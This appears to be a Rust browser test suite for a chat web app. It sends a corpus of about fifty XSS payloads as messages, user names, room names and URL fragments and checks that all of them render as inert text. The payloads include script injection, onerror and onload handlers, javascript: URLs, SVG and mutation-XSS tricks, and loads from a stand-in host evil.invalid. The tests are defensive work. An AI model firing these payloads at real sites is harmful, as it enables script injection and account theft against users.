//! What others send, at its worst: names, rooms and bodies that would be markup, script or a lie anywhere else.
//!
//! Nothing of it may run, become an element, or make the browser ask anything of anyone.

use super::chromium::Chromium;
use super::person::{Person, READY, program};
use super::server::{Server, free_port};
use super::tab::Tab;
use serde_json::{Value, json};

/// The classics. What would run sets `harmed`, or calls one of the dialogs.
const CORPUS: [&str; 52] = [
    "<script>window.harmed=1</script>",
    "<ScRiPt>harmed=1</sCrIpT>",
    "<scr<script>ipt>harmed=1</script>",
    "<script src=//evil.invalid/x.js></script>",
    "\"><script>harmed=1</script>",
    "'><img src=x onerror=harmed=1>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=\"javascript:harmed=1\">",
    "<img src=https://evil.invalid/pixel.png>",
    "<img src=x:x onerror=\"harmed=1\"//",
    "<svg onload=harmed=1>",
    "<svg/onload=alert(1)>",
    "<svg><script>harmed=1</script></svg>",
    "<svg><a xlink:href=javascript:harmed=1><text>x</text></a></svg>",
    "<svg><animate onbegin=harmed=1 attributeName=x>",
    "<svg><style><img src=x onerror=harmed=1></style>",
    "<math><mtext><table><mglyph><style><img src onerror=harmed=1>",
    "<math href=javascript:harmed=1>x</math>",
    "<body onload=harmed=1>",
    "<iframe src=javascript:harmed=1></iframe>",
    "<iframe srcdoc='<script>top.harmed=1</script>'>",
    "<object data=javascript:harmed=1>",
    "<embed src=//evil.invalid/x.swf>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<base href=//evil.invalid/>",
    "<meta http-equiv=refresh content=0;url=//evil.invalid>",
    "<form action=//evil.invalid><input autofocus onfocus=harmed=1>",
    "<details open ontoggle=harmed=1>x</details>",
    "<video><source onerror=harmed=1></video>",
    "<audio src=x onerror=harmed=1>",
    "<marquee onstart=harmed=1>x</marquee>",
    "<template><script>harmed=1</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=harmed=1>\">",
    "<textarea></textarea><script>harmed=1</script>",
    "<title></title><script>harmed=1</script>",
    "<!--><script>harmed=1</script-->",
    "<![CDATA[><script>harmed=1</script>]]>",
    "<style>@import '//evil.invalid/x.css';</style>",
    "<p style=\"background:url(//evil.invalid/x)\">x</p>",
    "<a href=javascript:harmed=1>x</a>",
    "javascript:harmed=1",
    "JaVaScRiPt:alert(1)//http://",
    "data:text/html,<script>harmed=1</script>",
    "vbscript:msgbox(1)",
    "&lt;script&gt;harmed=1&lt;/script&gt;",
    "&#60;img src=x onerror=harmed=1&#62;",
    "\\u003cscript\\u003eharmed=1\\u003c/script\\u003e",
    "{{constructor.constructor('harmed=1')()}}",
    "${harmed=1}",
    "';harmed=1;//",
    "__proto__",
];

/// For bodies alone: longer than a name may be, or with characters that no name has.
const BODIES: [&str; 14] = [
    "\u{202e}<script>harmed=1</script>",
    "\u{2066}isolated without an end",
    "pay\u{200b}pal \u{200d}\u{feff} zero width",
    "\u{200b}\u{200b}\u{feff}",
    "\u{0}\u{1}\u{8}\u{1b}[31m control \u{7f}",
    "Z\u{351}\u{36b}\u{343}\u{36a}\u{302}\u{36b}\u{33d}\u{34f}\u{334}\u{319}\u{324}\u{31e}\u{349}\u{35a}\u{32f}\u{31e}\u{320}\u{34d}algo",
    "\n\n\n\n\n\n\n\n\n\n",
    "https://example.com/\u{202e}gpj.exe",
    "https://user:secret@example.com/",
    "https://ex\u{430}mple.com/",
    "https://example.com\\@evil.invalid/",
    "http://javascript:harmed=1",
    "https://exam\u{200b}ple.com/",
    "http://[bad/",
];

/// Counts what goes wrong from now on: dialogs, requests that the policy stopped, faults of the page's own script.
const GUARD: &str = "{
    window.alarms = [];
    for (const name of ['alert', 'confirm', 'prompt', 'open', 'print']) window[name] = () => alarms.push(name);
    document.addEventListener('securitypolicyviolation', (event) => alarms.push(event.violatedDirective));
    window.addEventListener('error', (event) => alarms.push(String(event.message)));
    window.addEventListener('unhandledrejection', (event) => alarms.push(String(event.reason)));
}";

/// Everything that may stand on the page where the content is.
const ELEMENTS: &str =
    "A BDI BUTTON DIV FORM H2 INPUT LABEL LI OL P SPAN TEXTAREA TIME UL DETAILS SUMMARY MAIN NAV";

#[test]
fn hostile_bodies_are_text() {
    let server = Server::start(free_port());
    let mut chromium = Chromium::start();
    let mut ann = Person::enter(&mut chromium, &server.page(), "Ann");
    ann.eval(GUARD);
    let mut eve = program(&mut chromium, &server.relay_page());
    eve.eval("connect('Eve', 'lobby').then((room) => { window.room = room; })");
    let long = "x".repeat(60_000);
    let vectors: Vec<&str> = CORPUS.into_iter().chain(BODIES).chain([long.as_str()]).collect();
    let mut bodies: Vec<Value> = Vec::new();
    for vector in &vectors {
        bodies.push(json!(vector));
        bodies.push(json!({"text": vector}));
    }
    for vector in CORPUS {
        bodies.extend([json!({"html": vector}), json!([vector]), json!({vector: 1})]);
    }
    let nested = (0..60).fold(json!(1), |inner, _| json!([inner]));
    bodies.extend([
        json!(null),
        json!(0),
        json!(-1.5e300),
        json!(true),
        json!(""),
        json!([]),
        json!({}),
    ]);
    bodies.extend([
        json!({"text": null}),
        json!({"text": {"text": "<b>"}}),
        json!({"__proto__": {"text": 1}}),
        nested,
    ]);
    bodies.push(json!("the end"));
    eve.eval(&format!("say(room, {})", json!(bodies)));
    ann.hear("the end");
    let count = bodies.len();
    assert_eq!(ann.eval("document.querySelectorAll('.theirs').length"), count);
    let said = ann.said();
    for vector in CORPUS {
        assert_eq!(
            said.iter().filter(|text| *text == vector).count(),
            2,
            "as it was sent: {vector}"
        );
    }
    assert!(said.iter().all(|text| text.chars().count() <= 20_001), "what is too long is cut");
    assert!(
        said.iter().any(|text| text == "null")
            && said.iter().any(|text| text == "(nothing to see)")
    );
    assert_eq!(ann.texts(".log a"), [""; 0], "nothing of it is a link");
    assert_unharmed(&mut ann);

    // The same as history.
    ann.eval("location.reload()");
    ann.wait_for(&format!("!window.alarms && {READY}"));
    ann.eval(GUARD);
    ann.wait_for("(document.querySelector('.log').scrollTop = -1e9, document.querySelector('.older').hidden)");
    assert_eq!(ann.eval("document.querySelectorAll('.theirs').length"), count);
    assert_unharmed(&mut ann);
}

#[test]
fn hostile_names_are_text() {
    let server = Server::start(free_port());
    let mut chromium = Chromium::start();
    let mut ann = Person::enter(&mut chromium, &server.page(), "Ann");
    ann.eval(GUARD);
    ann.eval("document.getElementById('count').click()");
    let mut eve = program(&mut chromium, &server.relay_page());
    let names: Vec<&str> = CORPUS.into_iter().filter(|name| name.chars().count() <= 64).collect();
    assert!(names.len() >= 40, "{}", names.len());
    eve.eval(&format!(
        "(async () => {{ window.rooms = [];
            for (const name of {}) {{
                const room = await connect(name, 'lobby');
                rooms.push(room);
                room.signal({{ typing: true }});
                await room.send(name);
            }} }})()",
        json!(names)
    ));
    ann.hear(names[names.len() - 1]);
    ann.wait_for(&format!(
        "document.querySelectorAll('#members li').length === {}",
        names.len() + 1
    ));
    let (shown, members) = (ann.texts(".theirs .name"), ann.texts("#members li"));
    for name in names {
        assert!(shown.iter().any(|text| text == name), "{name} speaks");
        assert!(members.iter().any(|text| text == name), "{name} is here");
    }
    eve.eval("rooms[0].signal({ typing: true })");
    ann.wait_for("document.getElementById('typing').textContent !== ''");
    assert_unharmed(&mut ann);

    // One's own name, too.
    let mut mallory = Person::enter(&mut chromium, &server.page(), CORPUS[6]);
    mallory.eval(GUARD);
    mallory.say("hello");
    mallory.wait_for_delivery("hello", "stored");
    assert_eq!(mallory.eval("document.getElementById('self').textContent"), CORPUS[6]);
    assert_unharmed(&mut mallory);
}

#[test]
fn hostile_rooms_are_text() {
    let server = Server::start(free_port());
    let mut chromium = Chromium::start();
    let mut ann = Person::enter(&mut chromium, &server.page(), "Ann");
    ann.eval(GUARD);
    for room in CORPUS {
        ann.join(room);
    }
    let shown = ann.texts("#rooms .room bdi");
    assert_eq!(shown[0], "lobby");
    assert_eq!(shown[1..], CORPUS);
    ann.say("still here");
    ann.wait_for_delivery("still here", "stored");
    assert_unharmed(&mut ann);

    // As addresses that somebody was lured to.
    let address = format!("{}#%3Cimg%20src%3Dx%20onerror%3Dharmed%3D1%3E", server.page());
    let mut bob = Person::enter(&mut chromium, &address, "Bob");
    bob.wait_for_text("#title", "<img src=x onerror=harmed=1>");
    bob.eval(GUARD);
    for bad in ["%", "%E2%80%AE", "%00", "..", "%F0%9F"] {
        bob.eval(&format!("{{ location.hash = '#{bad}'; }}"));
    }
    assert_unharmed(&mut bob);
}

#[test]
fn links_lead_where_they_say() {
    let server = Server::start(free_port());
    let mut chromium = Chromium::start();
    let mut ann = Person::enter(&mut chromium, &server.page(), "Ann");
    ann.eval(GUARD);
    let mut eve = program(&mut chromium, &server.relay_page());
    let text = "see https://example.com/a?b=<c>, (http://example.org:81/x), HTTPS://EXAMPLE.NET/ and \
                ftp://example.com javascript:alert(1) //example.com www.example.com.";
    eve.eval(&format!("connect('Eve', 'lobby').then((room) => say(room, [{}]))", json!(text)));
    ann.hear(text);
    assert_eq!(
        ann.eval("[...document.querySelectorAll('.log a')].map((a) => [a.textContent, a.href, a.rel, a.target])"),
        json!([
            ["https://example.com/a?b=", "https://example.com/a?b=", "noopener noreferrer", "_blank"],
            ["http://example.org:81/x", "http://example.org:81/x", "noopener noreferrer", "_blank"],
            ["HTTPS://EXAMPLE.NET/", "https://example.net/", "noopener noreferrer", "_blank"],
        ])
    );
    assert_unharmed(&mut ann);
}

/// Fails if anything ran, stands on the page that has no business there, or was asked for elsewhere.
#[track_caller]
fn assert_unharmed(tab: &mut Tab) {
    tab.eval("new Promise((painted) => requestAnimationFrame(() => requestAnimationFrame(() => painted(true))))");
    assert_eq!(tab.eval("'harmed' in window"), false, "nothing ran");
    assert_eq!(tab.eval("alarms"), json!([]), "nothing tried to");
    let foreign = tab.eval(&format!(
        "[...new Set([...document.querySelectorAll('nav *, main *')].map((e) => e.tagName))]
            .filter((name) => !'{ELEMENTS}'.split(' ').includes(name))"
    ));
    assert_eq!(foreign, json!([]), "no element is made from content");
    let attributes = tab.eval(
        "[...document.querySelectorAll('*')].flatMap((e) => [...e.attributes])
            .filter((a) => a.name.startsWith('on') || ['src', 'srcdoc', 'style', 'action'].includes(a.name))
            .map((a) => `${a.name}=${a.value}`).filter((a) => a !== 'src=/page.js')",
    );
    assert_eq!(attributes, json!([]), "no attribute is made from content");
    let elsewhere = tab.eval(
        "performance.getEntriesByType('resource').map((e) => e.name).filter((name) => !name.startsWith(location.origin))",
    );
    assert_eq!(elsewhere, json!([]), "nothing was asked of anyone else");
}
